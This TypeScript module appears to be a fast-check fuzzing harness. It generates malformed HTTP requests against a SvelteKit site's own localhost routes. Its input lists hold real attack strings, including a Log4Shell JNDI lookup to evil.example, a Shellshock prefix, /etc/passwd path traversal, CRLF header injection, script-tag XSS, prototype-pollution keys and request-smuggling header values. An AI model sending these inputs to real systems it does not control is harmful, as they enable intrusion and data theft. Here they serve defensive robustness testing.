import fc from 'fast-check';
import { requestText } from './raw.ts';

/** Every field that RFC 9110, 9111, 9112 and 6265 know, those of Fetch and of proxies, and those our framework listens to. */
const FIELDS = [
	...['Accept', 'Accept-Charset', 'Accept-Encoding', 'Accept-Language', 'Accept-Ranges', 'Allow'],
	...['Authentication-Info', 'Authorization', 'Connection', 'Content-Encoding', 'Content-Language'],
	...[
		'Content-Length',
		'Content-Location',
		'Content-Range',
		'Content-Type',
		'Date',
		'ETag',
		'Expect'
	],
	...['From', 'Host', 'If-Match', 'If-Modified-Since', 'If-None-Match', 'If-Range'],
	...['If-Unmodified-Since', 'Last-Modified', 'Location', 'Max-Forwards', 'Proxy-Authenticate'],
	...[
		'Proxy-Authentication-Info',
		'Proxy-Authorization',
		'Range',
		'Referer',
		'Retry-After',
		'Server'
	],
	...['TE', 'Trailer', 'Upgrade', 'User-Agent', 'Vary', 'Via', 'WWW-Authenticate'],
	...['Age', 'Cache-Control', 'Expires', 'Pragma', 'Warning'],
	...[
		'Transfer-Encoding',
		'Close',
		'MIME-Version',
		'Keep-Alive',
		'Proxy-Connection',
		'HTTP2-Settings'
	],
	...['Cookie', 'Cookie2', 'Set-Cookie'],
	...[
		'Sec-Fetch-Site',
		'Sec-Fetch-Mode',
		'Sec-Fetch-User',
		'Sec-Fetch-Dest',
		'Sec-Purpose',
		'Origin'
	],
	...['X-Forwarded-For', 'X-Forwarded-Host', 'X-Forwarded-Proto', 'X-Forwarded-Port', 'Forwarded'],
	...['X-Real-IP', 'X-Original-URL', 'X-Rewrite-URL', 'X-HTTP-Method-Override', 'Early-Data'],
	...['Access-Control-Request-Method', 'Access-Control-Request-Headers', 'Sec-WebSocket-Key'],
	...['x-sveltekit-action', 'x-sveltekit-pathname', 'x-sveltekit-search', 'x-sveltekit-error'],
	...['__proto__', 'constructor']
];

/** What each field is meant to hold, bent. */
const OF_FIELD = new Map<string, string[]>(
	Object.entries({
		Accept: ['*/*;q=0', 'text/html;q=2', 'application/json', '/', 'a/b/c;q', '*', 'text/*;;;', ','],
		'Accept-Encoding': [
			'gzip;q=0',
			'br;q=0',
			'*;q=0',
			'identity;q=0',
			'gzip;q=1e999',
			';q=1',
			'br,,,br'
		],
		'Content-Type': [
			'application/x-www-form-urlencoded',
			'multipart/form-data',
			'multipart/form-data; boundary=',
			`multipart/form-data; boundary=${'-'.repeat(5_000)}`,
			'text/plain; charset=utf-7',
			'application/json'
		],
		'Content-Length': [
			'0',
			'-1',
			'1e3',
			'9007199254740993',
			'18446744073709551616',
			'5, 5',
			'+3',
			'0x5'
		],
		'Transfer-Encoding': ['chunked', 'gzip, chunked', 'chunked, chunked', 'identity', 'xchunked'],
		Connection: ['keep-alive, close', 'upgrade', 'host', 'content-length', 'x'.repeat(2_000)],
		Upgrade: ['websocket', 'h2c', 'TLS/1.0'],
		Expect: ['100-continue', '200-ok', '100-continue, x'],
		Host: [
			'',
			'evil.example',
			'127.0.0.1',
			'127.0.0.1:99999',
			'[::1]:80',
			'a b',
			'localhost:',
			'@',
			'%00'
		],
		Origin: ['null', 'https://evil.example', 'http://localhost', '//', 'http://[', 'file://'],
		Cookie: ['a=%E0%A4%A', '=', ';;;;', '__proto__=1', `a=${'b'.repeat(3_000)}`, 'a="', '%00=%00'],
		Range: [
			'bytes=5-1',
			'bytes=0-9007199254740993',
			'bytes=-0',
			'bytes=1-2,0-99999999999999',
			'x=0-1'
		],
		'If-Range': ['"', 'W/"x"', 'Mon, 99 Foo 2026'],
		'If-None-Match': ['*', '"', 'W/"x', ',,,', `${'"a",'.repeat(500)}`],
		'If-Modified-Since': ['Mon, 99 Foo 99999 99:99:99 GMT', '0', '-1', '253402300800'],
		'X-Forwarded-Host': ['evil.example', '', '"><script>', 'a, b'],
		'X-Forwarded-Proto': ['javascript', 'https, http', ':'],
		'x-sveltekit-pathname': ['//evil.example', '/../..', 'http://evil.example'],
		'HTTP2-Settings': ['AAMAAABkAARAAAAAAAIAAAAA']
	})
);

const ANYWHERE = [
	'',
	' ',
	'0',
	'-1',
	'NaN',
	'9007199254740993',
	'1e309',
	'__proto__',
	'constructor',
	'[object Object]',
	'../../../../etc/passwd',
	'%00%0d%0aSet-Cookie: a=b',
	'%E0%A4%A',
	'"',
	"'",
	'\\',
	',,,,,',
	';;=;;',
	'a=b; a=b; a=b',
	'${jndi:ldap://evil.example}',
	'<script>alert(1)</script>',
	'() { :; }; echo',
	'\u00ff\u00fe\u00fd',
	'\u00e2\u0080\u00ae',
	'\t\t',
	'a\u0000b',
	'a\u007fb',
	'a\r\n b',
	'x'.repeat(7_000)
];

const METHODS = ['GET', 'HEAD', 'POST', 'OPTIONS', 'PUT', 'DELETE', 'PATCH', 'TRACE', 'PROPFIND'];
const FILES = ['/error.css', '/icon-512.png', '/service-worker.js', '/_app/version.json'];
const PATHS = [
	'/',
	'/guide',
	'/guide/',
	'/guide?q=%E0%A4%A',
	'/check',
	'/check?/__proto__',
	'/check/__data.json',
	'/check/__data.json?x-sveltekit-invalidated=%00&x-sveltekit-trailing-slash=1',
	'/guide/__route.js',
	'/checks/lonely-or-alone',
	'/checks/__proto__',
	'/embed/social-overload',
	'/embed/social-overload?theme=accent:x&embed=__proto__&share=constructor&lang=%00',
	'/embed/social-overload/scoring.json',
	'/embed/v1.js',
	'/embed/help.json',
	'/oembed?url=%00&maxwidth=-1&format=__proto__',
	'/author/shipped/lonely-or-alone.json',
	'/leave',
	'/offline.json',
	'/_app/env.js',
	'/_app/remote/x/y',
	'/_app/immutable/nothing.js',
	'/nowhere',
	'/%E0%A4%A',
	'/%00',
	'//evil.example/guide/',
	'http://evil.example/guide',
	'*',
	`/${'a/'.repeat(500)}`
];

/** Any bytes that do not end the line. */
const anyBytes = fc.uint8Array({ maxLength: 60 }).map((bytes) =>
	Buffer.from(bytes)
		.toString('latin1')
		.replace(/[\r\n]/g, ' ')
);

const value = (field: string): fc.Arbitrary<string> =>
	fc.oneof(
		{ weight: 3, arbitrary: fc.constantFrom(...(OF_FIELD.get(field) ?? ANYWHERE)) },
		{ weight: 1, arbitrary: fc.constantFrom(...ANYWHERE) },
		{ weight: 1, arbitrary: anyBytes }
	);

const header = fc
	.oneof(fc.constantFrom(...OF_FIELD.keys()), fc.constantFrom(...FIELDS))
	.chain((field) => fc.tuple(fc.constant(field), value(field)));

const bodies = ['', 'a=b', 'q_gap=very&sheet=1', '5\r\nhello\r\n0\r\n\r\n', '\u0000\u00ff'];

export type HostileRequest = { text: string; mayWaitForMore: boolean };

/** A request with up to six fields bent out of shape, to any of our addresses. */
export function hostileRequest(port: number): fc.Arbitrary<HostileRequest> {
	return fc
		.record({
			method: fc.oneof(
				{ weight: 3, arbitrary: fc.constant('GET') },
				{ weight: 2, arbitrary: fc.constant('POST') },
				{ weight: 2, arbitrary: fc.constantFrom(...METHODS) }
			),
			path: fc.oneof(fc.constantFrom(...FILES), fc.constantFrom(...PATHS)),
			headers: fc.array(header, { minLength: 1, maxLength: 6 }),
			isOurs: fc.boolean(),
			body: fc.constantFrom(...bodies)
		})
		.map(({ method, path, headers, isOurs, body }) => {
			// What a form of ours brings along, so that not everything is refused at the door.
			const usual: [string, string][] = [
				['Host', `localhost:${port}`],
				['Origin', `http://localhost:${port}`],
				['Content-Type', 'application/x-www-form-urlencoded'],
				['Content-Length', String(body.length)]
			];
			const bent = new Set(headers.map(([name]) => name));
			const all = [
				...usual.filter(([name], at) => !bent.has(name) && (isOurs || at === 0)),
				...headers
			];
			return {
				text: requestText(method, path, all, body),
				// Announced bytes that never come are waited for, and that is right.
				mayWaitForMore: bent.has('Content-Length') || bent.has('Transfer-Encoding')
			};
		});
}
